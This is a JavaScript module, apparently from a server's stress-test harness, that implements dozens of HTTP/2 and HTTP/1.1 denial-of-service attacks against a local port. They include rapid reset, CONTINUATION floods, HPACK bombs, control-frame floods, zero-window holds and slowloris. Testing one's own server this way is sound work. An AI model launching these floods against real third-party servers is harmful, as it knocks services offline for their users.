// The attacks: frames that are sent as fast as the server reads them, and connections that are held.
import { once } from "node:events";
import { connect } from "node:net";
import { setImmediate as turn, setTimeout as after } from "node:timers/promises";

const PAGE = "/page.html";
const SMALL = "/small.css";
const BIG = "/big.bin";
/** A chunk of a flood has about so many bytes. */
const CHUNK_BYTES = 64_000;
/** Content of a frame (SETTINGS_MAX_FRAME_SIZE is 16,384). */
const FRAME_BYTES = 16_000;
/** The newest entry of the table of fields (RFC 7541 §2.3.3). */
const FIRST_DYNAMIC = 62;

const isOpen = ({ socket }) => !socket.destroyed && socket.writable;

/** Frames of so many streams, from stream 1 on. */
const streams = (count, of) => Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * at + 1)).flat());

/** The same frame until the chunk is full. */
const repeated = (frame, bytes = CHUNK_BYTES) =>
  Buffer.concat(Array.from({ length: Math.ceil(bytes / frame.length) }, () => frame));

/**
 * Sends chunks without a pause.
 *
 * @param opens what is sent first
 * @param chunks what is sent again and again, with `delay` ms between them
 * @param span by how much the streams of one chunk are above those of the one before
 */
const flood = ({ connections = 2, options, reads = true, opens = () => [], chunks, delay = 0, span = 0 }) => ({
  run: (attack) => {
    const { frames } = attack;
    const made = chunks(frames);
    return attack.keep(connections, options, async (client) => {
      if (!reads) client.socket.pause();
      client.write(...opens(frames));
      for (let by = 0; isOpen(client) && !attack.isOver; by += span) {
        for (const chunk of made) {
          client.write(span === 0 ? chunk : frames.shifted(chunk, by));
          await client.flushed();
          await (delay === 0 ? turn() : after(delay));
        }
      }
    });
  },
});

/** Opens connections, sends something on each and leaves them as they are; `drip` is sent each 100 ms. */
const hold = ({ connections, options, reads = true, opens, drip }) => ({
  run: (attack) =>
    attack.keep(connections, options, async (client) => {
      client.write(...opens(attack.frames));
      if (!reads) client.socket.pause();
      while (isOpen(client) && !attack.isOver) {
        await Promise.race([after(100), client.closed]);
        if (drip !== undefined) client.write(...drip(attack.frames));
      }
    }),
});

/** Connections that say no more than these bytes. */
const silent = (count, bytes) => ({
  run: async (attack) => {
    for (let at = 0; at < count; at++) {
      const socket = connect(attack.port, "127.0.0.1").on("error", () => undefined);
      if (bytes.length > 0) socket.write(bytes);
      if (at % 20 === 0) await after(5);
    }
    await attack.wait();
    return { connections: count };
  },
});

/** Requests that are reset as soon as they are made, or `delay` ms later. */
const resets = (path, count, delay) =>
  flood({
    chunks: ({ get, reset }) =>
      delay === 0
        ? [streams(count, (stream) => [get(stream, path), reset(stream)])]
        : [streams(count, (stream) => [get(stream, path)]), streams(count, (stream) => [reset(stream)])],
    delay,
    span: 2 * count,
    options: { takes: false },
  });

/** Requests that the server itself resets for what comes behind them. */
const madeReset = (frames, count = 60) =>
  flood({ chunks: (tools) => [streams(count, (stream) => frames(tools, stream))], span: 2 * count });

const bytes = (...values) => Buffer.from(values);

const resetFloods = {
  "rapid reset, at once": resets(SMALL, 100, 0),
  "rapid reset, delayed": resets(BIG, 100, 5),
  "rapid reset of pages, at once": resets(PAGE, 100, 0),
  "rapid reset of pages, delayed": resets(PAGE, 50, 5),
  "made you reset: window of 0": madeReset(({ get, windowUpdate }, at) => [get(at, PAGE), windowUpdate(at, 0)]),
  "made you reset: window too large": madeReset(({ get, windowUpdate }, at) => [
    get(at, PAGE),
    windowUpdate(at, 0x7fffffff),
  ]),
  "made you reset: data behind the end": madeReset(({ get, data }, at) => [get(at, PAGE), data(at, bytes(1))]),
  "made you reset: fields behind the end": madeReset(({ get }, at) => [get(at, PAGE), get(at, PAGE)]),
  "made you reset: depends on itself": madeReset(({ get, frame, FRAME }, at) => [
    get(at, PAGE),
    frame(FRAME.PRIORITY, 0, at, bytes(0, 0, 0, at, 1)),
  ]),
  "made you reset: PRIORITY too short": madeReset(({ get, frame, FRAME }, at) => [
    get(at, PAGE),
    frame(FRAME.PRIORITY, 0, at, bytes(0)),
  ]),
  "made you reset: other length": madeReset(({ post, data, FLAG }, at) => [
    post(at, PAGE, [["content-length", "5"]]),
    data(at, bytes(1), FLAG.END_STREAM),
  ]),
  "made you reset: malformed fields": madeReset(({ get }, at) => get(at, PAGE, [["X-Upper", "1"]])),
  "made you reset: content for a file": madeReset(({ post }, at) => post(at, PAGE)),
};

const refs = (count) => Buffer.alloc(count, 0x80 | FIRST_DYNAMIC);

const text = (value) => Buffer.concat([bytes(value.length), Buffer.from(value)]);
/** A field that goes into the table (RFC 7541 §6.2.1). */
const indexed = ({ integer }, name, value) =>
  Buffer.concat([bytes(0x40), text(name), integer(7, 0, value.length), Buffer.from(value)]);

/** A request whose block of fields has more behind it. */
const requestWith = (tools, stream, ...more) => {
  const block = Buffer.concat([tools.encodeFields(tools.requestFields(SMALL)), ...more]);
  const { FLAG, FRAME, frame, continuation } = tools;
  const parts = Array.from({ length: Math.ceil(block.length / FRAME_BYTES) }, (_, at) =>
    block.subarray(at * FRAME_BYTES, (at + 1) * FRAME_BYTES),
  );
  const ends = (at) => (at === parts.length - 1 ? FLAG.END_HEADERS : 0);
  return parts.map((part, at) =>
    at === 0 ? frame(FRAME.HEADERS, FLAG.END_STREAM | ends(0), stream, part) : continuation(stream, part, ends(at)),
  );
};

const fieldFloods = {
  "CONTINUATION flood": flood({
    opens: (tools) => [tools.headers(1, tools.requestFields(SMALL), tools.FLAG.END_STREAM)],
    chunks: ({ continuation, encodeFields }) => [repeated(continuation(1, encodeFields([["x", "y".repeat(100)]])))],
  }),
  "CONTINUATION flood, empty": flood({
    opens: (tools) => [tools.headers(1, tools.requestFields(SMALL), tools.FLAG.END_STREAM)],
    chunks: ({ continuation }) => [repeated(continuation(1, bytes()))],
  }),
  "HPACK bomb": flood({
    chunks: (tools) => [
      streams(4, (stream) => requestWith(tools, stream, indexed(tools, "x", "y".repeat(4000)), refs(15_000))),
    ],
    span: 8,
  }),
  "HPACK bomb of small fields": flood({
    chunks: (tools) => [streams(50, (stream) => requestWith(tools, stream, indexed(tools, "x", "y"), refs(100)))],
    span: 100,
  }),
  "HPACK table churn": flood({
    chunks: (tools) => [
      streams(20, (stream) =>
        requestWith(tools, stream, ...Array.from({ length: 60 }, (_, at) => indexed(tools, `x${at}`, "y".repeat(60)))),
      ),
    ],
    span: 40,
  }),
  "10,000 fields": flood({
    chunks: (tools) => [
      streams(2, (stream) => requestWith(tools, stream, repeated(tools.encodeFields([["a", "b"]]), 50_000))),
    ],
    span: 4,
  }),
};

const controlFloods = {
  "PING flood": flood({ chunks: ({ ping }) => [repeated(ping())] }),
  "PING flood, answers not read": flood({ reads: false, chunks: ({ ping }) => [repeated(ping())] }),
  "PING acknowledgements": flood({ chunks: ({ ping, FLAG }) => [repeated(ping(FLAG.ACK))] }),
  "SETTINGS flood": flood({ chunks: ({ settings }) => [repeated(settings([]))] }),
  "SETTINGS flood, windows of open streams": flood({
    options: { takes: false },
    opens: ({ get }) => [streams(100, (stream) => [get(stream, BIG)])],
    chunks: ({ settings, SETTING }) => [
      repeated(Buffer.concat([1000, 70_000].map((size) => settings([[SETTING.INITIAL_WINDOW_SIZE, size]])))),
    ],
  }),
  "WINDOW_UPDATE flood": flood({ chunks: ({ windowUpdate }) => [repeated(windowUpdate(0, 1))] }),
  "PRIORITY_UPDATE flood": flood({
    chunks: ({ priorityUpdate }) => [streams(2000, (stream) => [priorityUpdate(stream, "u=1, i")])],
  }),
  "PRIORITY flood": flood({
    chunks: ({ frame, FRAME }) => [streams(2000, (stream) => [frame(FRAME.PRIORITY, 0, stream, bytes(0, 0, 0, 0, 1))])],
    span: 4000,
  }),
  "frames of an unknown type": flood({ chunks: ({ frame }) => [repeated(frame(0x42, 0, 0))] }),
  "empty DATA flood": flood({
    opens: ({ post }) => [post(1, "/up/events")],
    chunks: ({ data }) => [repeated(data(1))],
  }),
  "empty DATA flood, padded": flood({
    opens: ({ post }) => [post(1, "/up/events")],
    chunks: ({ data, FLAG }) => [repeated(data(1, bytes(0), FLAG.PADDED))],
  }),
  "bodies that never end": flood({
    chunks: ({ post, data }) => [streams(20, (stream) => [post(stream, PAGE), data(stream, Buffer.alloc(2000))])],
    span: 40,
  }),
};

/** SETTINGS_INITIAL_WINDOW_SIZE. */
const window = (size) => ({ settings: [[4, size]], takes: false });
/** Ten requests for a page with its pushes. */
const tenPages = ({ get }) => [streams(10, (stream) => [get(stream, `${PAGE}?${stream}`)])];

/** Asks for pages, waits for their beginning, says something more and leaves. */
const leaving = (says, wait) => ({
  run: (attack) =>
    attack.keep(20, {}, async (client) => {
      client.write(...tenPages(attack.frames));
      await Promise.race([once(client.socket, "data"), client.closed]);
      client.write(...says(attack.frames));
      if (wait > 0) await after(wait);
      client.destroy();
    }),
});

const HTTP1 = { protocol: "http/1.1", begins: false };
const asks = (path, ...fields) => Buffer.from([`GET ${path} HTTP/1.1`, "host: localhost", ...fields, ""].join("\r\n"));
const UPGRADE = [
  "upgrade: websocket",
  "connection: upgrade",
  `sec-websocket-key: ${"a".repeat(22)}==`,
  "sec-websocket-version: 13",
];

const held = {
  "windows of 0": hold({
    connections: 8,
    options: window(0),
    opens: ({ get }) => [streams(128, (at) => [get(at, BIG)])],
  }),
  "windows of 1": flood({
    options: window(1),
    opens: ({ get }) => [streams(100, (stream) => [get(stream, BIG)])],
    chunks: ({ windowUpdate }) => [streams(100, (stream) => [windowUpdate(stream, 1)])],
  }),
  "half a request's fields": hold({
    connections: 300,
    opens: (tools) => [tools.headers(1, tools.requestFields(PAGE), tools.FLAG.END_STREAM)],
  }),
  "half-open requests": hold({
    connections: 20,
    opens: ({ post }) => [streams(128, (at) => [post(at, "/up/events")])],
  }),
  "contents that trickle": hold({
    connections: 4,
    opens: ({ post }) => [streams(100, (stream) => [post(stream, "/up/events")])],
    drip: ({ data }) => [streams(100, (stream) => [data(stream, bytes(1))])],
  }),
  "cut connections": leaving(() => [], 0),
  "GOAWAY in the middle": leaving(({ goAway }) => [goAway()], 30),
  "TCP that says nothing": silent(500, bytes()),
  "TLS that stops in its first message": silent(500, bytes(22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3)),
  "TLS that says nothing": hold({ connections: 300, options: { begins: false }, opens: () => [] }),
  slowloris: hold({
    connections: 300,
    options: HTTP1,
    opens: () => [asks("/")],
    drip: () => [Buffer.from("x-a: b\r\n")],
  }),
  "WebSockets that read nothing": hold({
    connections: 50,
    options: HTTP1,
    reads: false,
    opens: () => [asks("/up/socket", ...UPGRADE), Buffer.from("\r\n")],
  }),
  "1,000 event streams": hold({
    connections: 10,
    opens: ({ get }) => [streams(100, (stream) => [get(stream, "/up/events")])],
  }),
};

export const attacks = { ...resetFloods, ...fieldFloods, ...controlFloods, ...held };
